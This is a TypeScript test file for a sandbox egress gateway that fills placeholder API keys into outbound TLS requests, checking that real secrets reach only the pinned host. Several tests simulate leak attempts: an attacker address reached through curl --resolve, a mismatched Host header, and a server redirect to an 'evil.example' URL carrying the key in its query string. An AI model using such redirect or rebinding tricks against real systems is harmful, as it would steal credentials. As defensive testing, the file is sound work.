/** Secrets at egress with real TLS clients and a real server, on loopback. */
import { once } from 'node:events';
import { readFileSync, writeFileSync } from 'node:fs';
import type { IncomingMessage, ServerResponse } from 'node:http';
import { createServer } from 'node:https';
import { dirname, join } from 'node:path';
import { connect as connectTls, createSecureContext } from 'node:tls';
import { afterEach, describe, expect, it } from 'vitest';
import { systemClock } from '../../src/base/clock.ts';
import { CertificateAuthority } from '../../src/egress/net/secret/authority.ts';
import type { SecretUse } from '../../src/egress/net/secret/connection.ts';
import { eventually } from '../support/eventually.ts';
import { ADDRESS, cleanUp, httpWorld, undo } from '../support/gateway-servers.ts';
import { certificate, command, HOST, listen, talk, type WorldOptions } from '../support/gateway-world.ts';
import { listPolicy } from '../support/net-policy.ts';
import { secretGateway } from '../support/secret-world.ts';
import { OTHER_PLACEHOLDER, OTHER_TOKEN, PLACEHOLDER, SECRETS, TOKEN } from '../support/secrets.ts';

afterEach(cleanUp);

const identity = certificate();
const KEY = ['-H', `X-Api-Key: ${PLACEHOLDER}`];
const ATTACKER = '203.0.113.9';

type Answer = (request: IncomingMessage, response: ServerResponse) => void;
/** Echoes the request in two pieces. */
const reflect: Answer = (request, response) => {
  const heard = `${request.method} ${request.url} ${JSON.stringify(request.headers)}`;
  const at = heard.indexOf('sk-live') + 5;
  response.setHeader('x-heard', String(request.headers['x-api-key'] ?? 'none'));
  response.write(heard.slice(0, at));
  setImmediate(() => response.end(heard.slice(at)));
};

async function secretWorld(options: WorldOptions & { roots?: string; answer?: Answer } = {}) {
  const { roots = identity.cert, answer = reflect, ...rest } = options;
  const gateway = await secretGateway(SECRETS, roots, rest);
  const { made } = gateway;
  const heard: string[] = [];
  const server = createServer(identity, (request, response) => {
    heard.push(`${request.method} ${request.headers.host} ${JSON.stringify(request.headers)}`);
    answer(request, response);
  });
  server.on('tlsClientError', () => undefined);
  const port = await listen(server);
  for (const address of [ADDRESS, ATTACKER]) made.internet.set(`${address}:443`, port);
  undo.push(
    () => server.close(),
    () => server.closeAllConnections(),
  );
  return { ...gateway, heard, server };
}

describe('secrets: their host', () => {
  it('gets the secret, and the guest gets the placeholder back', async () => {
    const { client, heard, uses, made } = await secretWorld();
    const { out, code } = await client('https://a.example/x', ...KEY, '-i');
    expect(code).toBe(0);
    expect(heard).toHaveLength(1);
    expect(heard[0]).toContain(TOKEN.replaceAll('"', '\\"'));
    expect(out).toContain(`x-heard: ${PLACEHOLDER}`);
    expect(out).not.toContain('sk-live');
    expect(uses).toMatchObject([{ kind: 'filled', names: ['API_KEY'], host: 'a.example' }]);
    expect(made.dialled).toEqual([`${ADDRESS}:443`]);
  });
  it('several requests with bodies use one connection', async () => {
    const { client, heard, made, rootFile } = await secretWorld();
    const url = 'https://a.example/x';
    const body = join(dirname(rootFile), 'body');
    writeFileSync(body, 'y'.repeat(300_000));
    const { out } = await client(url, ...KEY, '--data-binary', `@${body}`, url);
    expect(heard).toHaveLength(2);
    expect(made.dialled).toHaveLength(1);
    expect(out).not.toContain('sk-live');
  });
  it('the protocol is HTTP/1.1, whatever the client offers', async () => {
    const { client } = await secretWorld();
    const { out } = await client('https://a.example/', '-w', ' v%{http_version}');
    expect(out).toMatch(/ v1\.1$/);
  });
  it('must have a valid certificate: otherwise 502 with the reason, and no secret is sent', async () => {
    const { client, heard } = await secretWorld({ roots: certificate().cert });
    const { out } = await client('https://a.example/', ...KEY, '-i');
    expect(out).toMatch(/^HTTP\/1\.1 502 [\s\S]*upstream_failed[\s\S]*certificate/);
    expect(heard).toEqual([]);
  });
  it('no answer of the host: 502', async () => {
    const { client, made } = await secretWorld();
    made.internet.clear();
    const { out } = await client('https://a.example/', ...KEY, '-i');
    expect(out).toMatch(/^HTTP\/1\.1 502 [\s\S]*ECONNREFUSED/);
  });
  it('large answers pass completely, no faster than the guest reads', async () => {
    const bytes = 24 * 1024 * 1024;
    let sent = 0;
    const { client, made } = await secretWorld({
      answer: (_request, response) => {
        sent = 0;
        const more = (): void => {
          while (sent < bytes && !response.destroyed) {
            sent += 65_536;
            if (!response.write('z'.repeat(65_536))) return void response.once('drain', more);
          }
          response.end();
        };
        more();
      },
    });
    const slow = client('https://a.example/', ...KEY, '--limit-rate', '1M', '--max-time', '1');
    await eventually(() => expect(made.gateway.stats().bytesReceived).toBeGreaterThan(1_000_000));
    await slow;
    expect(sent).toBeLessThan(bytes);
    const { out } = await client('https://a.example/', ...KEY, '-o', '/dev/null', '-w', '%{size_download}');
    expect(out).toBe(`${bytes}`);
  });
});

describe('secrets: other hosts', () => {
  it('another Host inside the same TLS gets no secret', async () => {
    const { client, heard } = await secretWorld();
    const { out } = await client('https://a.example/', ...KEY, '-H', 'Host: b.example', '-i');
    expect(out).toMatch(/^HTTP\/1\.1 (?:403|421) /);
    expect(heard).toEqual([]);
  });
  it('another address under the host’s name (curl --resolve) gets no secret', async () => {
    for (const isOpen of [false, true]) {
      const { client, heard, made } = await secretWorld();
      made.policy = listPolicy({ names: ['a.example'], isOpen });
      made.destination = { address: ATTACKER, port: 443 };
      const { code } = await client('https://a.example/', ...KEY);
      expect(code).not.toBe(0);
      expect(made.reasons()).toEqual(['not_pinned']);
      expect(made.dialled).toEqual([]);
      expect(heard).toEqual([]);
    }
  });
  it('TLS to another host passes unchanged, with the placeholder', async () => {
    const { made, client, heard, uses } = await secretWorld();
    made.policy = listPolicy({ isOpen: true });
    made.destination = { address: ATTACKER, port: 443 };
    // The certificate is the server's own: the connection is not decrypted.
    const { code } = await client('https://c.example/', ...KEY);
    expect(code).not.toBe(0);
    const { out } = await client('https://c.example/', ...KEY, '-k');
    expect(out).toContain(PLACEHOLDER);
    expect(heard.join()).not.toContain('sk-live');
    expect(uses).toEqual([]);
  });
  it('the placeholder of another host’s secret passes unchanged, and is logged', async () => {
    const { client, heard, uses } = await secretWorld();
    await client('https://a.example/', '-H', `X-Api-Key: ${OTHER_PLACEHOLDER}`);
    expect(heard[0]).toContain(OTHER_PLACEHOLDER);
    expect(heard[0]).not.toContain(OTHER_TOKEN);
    expect(uses).toMatchObject([{ kind: 'unfilled', names: ['OTHER_KEY'], host: 'a.example' }]);
  });
  it('plain HTTP gets no secret, whatever the host', async () => {
    const uses: SecretUse[] = [];
    const authority = new CertificateAuthority(systemClock);
    const { made, seen } = await httpWorld({
      secrets: () => ({ secrets: SECRETS, authority, roots: () => createSecureContext() }),
      onSecrets: (use) => uses.push(use),
    });
    const head = `GET /${PLACEHOLDER} HTTP/1.1\r\nHost: a.example\r\nConnection: close\r\n\r\n`;
    const reply = await talk(made.port, [head]);
    expect(reply.toString()).toContain(PLACEHOLDER);
    expect(seen.join()).not.toContain('sk-live');
    expect(uses).toMatchObject([{ kind: 'unfilled', names: ['API_KEY'], host: 'a.example' }]);
  });
  it('TRACE is refused, OPTIONS and Max-Forwards are not filled', async () => {
    const { client, heard, uses } = await secretWorld();
    const url = 'https://a.example/';
    expect((await client(url, ...KEY, '-X', 'TRACE', '-i')).out).toMatch(/ 403 [\s\S]*method_refused/);
    expect(heard).toEqual([]);
    await client(url, ...KEY, '-X', 'OPTIONS');
    await client(url, ...KEY, '-H', 'Max-Forwards: 0');
    expect(heard).toHaveLength(2);
    expect(heard.join()).not.toContain('sk-live');
    expect(uses.map(({ kind }) => kind)).toEqual(['unfilled', 'unfilled']);
  });
  it('a redirect to another host contains the placeholder', async () => {
    const { client } = await secretWorld({
      answer: (request, response) => {
        const key = encodeURIComponent(String(request.headers['x-api-key']));
        response.writeHead(302, { location: `https://evil.example/?k=${key}` }).end();
      },
    });
    const { out } = await client('https://a.example/', ...KEY, '-i');
    expect(out).toContain(`https://evil.example/?k=${PLACEHOLDER}`);
    expect(out).not.toContain('sk-live');
  });
});

describe('secrets: the connection', () => {
  it('a client that half-closes after its request is answered', async () => {
    const { made, heard, rootFile } = await secretWorld();
    const { promise, resolve } = Promise.withResolvers<string>();
    const socket = connectTls({
      ...{ host: HOST, port: made.port, servername: 'a.example', ca: readFileSync(rootFile) },
      ...{ allowHalfOpen: true, ALPNProtocols: ['h2', 'http/1.1'] },
    });
    let received = '';
    socket.on('data', (bytes) => {
      received += bytes.toString('latin1');
    });
    socket.on('close', () => resolve(received));
    socket.end(`GET / HTTP/1.1\r\nHost: a.example\r\nX-Api-Key: ${PLACEHOLDER}\r\n\r\n`);
    const reply = await promise;
    expect(reply).toMatch(/^HTTP\/1\.1 200 /);
    expect(reply).toContain(PLACEHOLDER);
    expect(heard).toHaveLength(1);
  });
  it('a client that ends without a request is closed', async () => {
    const { made, rootFile } = await secretWorld();
    const options = { servername: 'a.example', ca: readFileSync(rootFile) };
    const socket = connectTls({ host: HOST, port: made.port, ...options });
    await once(socket, 'secureConnect');
    socket.end();
    await eventually(() => expect(made.gateway.stats().connections).toBe(0));
  });
  it('a client that does not trust our certificate ends the connection', async () => {
    const { made, client, heard, rootFile } = await secretWorld();
    const other = join(dirname(rootFile), 'other.pem');
    writeFileSync(other, certificate().cert);
    const { out, code } = await client('https://a.example/', ...KEY, '--cacert', other);
    expect(code).not.toBe(0);
    expect(out).toContain('certificate');
    await eventually(() => expect(made.gateway.stats().connections).toBe(0));
    expect(heard).toEqual([]);
  });
  it('setSecrets: ends connections that began with the old secrets', async () => {
    const { made, client, state } = await secretWorld({ answer: (_request, response) => void response.write('begun') });
    const waiting = client('https://a.example/', ...KEY);
    await eventually(() => expect(made.gateway.stats().bytesReceived).toBeGreaterThan(0));
    made.gateway.judgeSandbox('sb-1');
    expect(made.gateway.stats().connections).toBe(1);
    state.secrets = { ...state.secrets, secrets: [] };
    made.gateway.judgeSandbox('sb-1');
    expect((await waiting).code).not.toBe(0);
    await eventually(() => expect(made.gateway.stats().connections).toBe(0));
  });
  it('a client that is silent after the handshake is closed; openssl verifies our certificate', async () => {
    const { made, rootFile } = await secretWorld({ timeouts: { headMs: 500 } });
    const args = ['s_client', '-connect', `${HOST}:${made.port}`, '-servername', 'a.example'];
    const verify = ['-CAfile', rootFile, '-verify_return_error', '-verify_hostname', 'a.example'];
    const { out } = await command('openssl', [...args, ...verify]);
    expect(out).toContain('Verify return code: 0 (ok)');
    const options = { servername: 'a.example', ca: readFileSync(rootFile) };
    const socket = connectTls({ host: HOST, port: made.port, ...options });
    const closed = once(socket, 'close');
    socket.write('GET');
    await closed;
    expect(made.reasons()).toContain('head_timeout');
  });
});
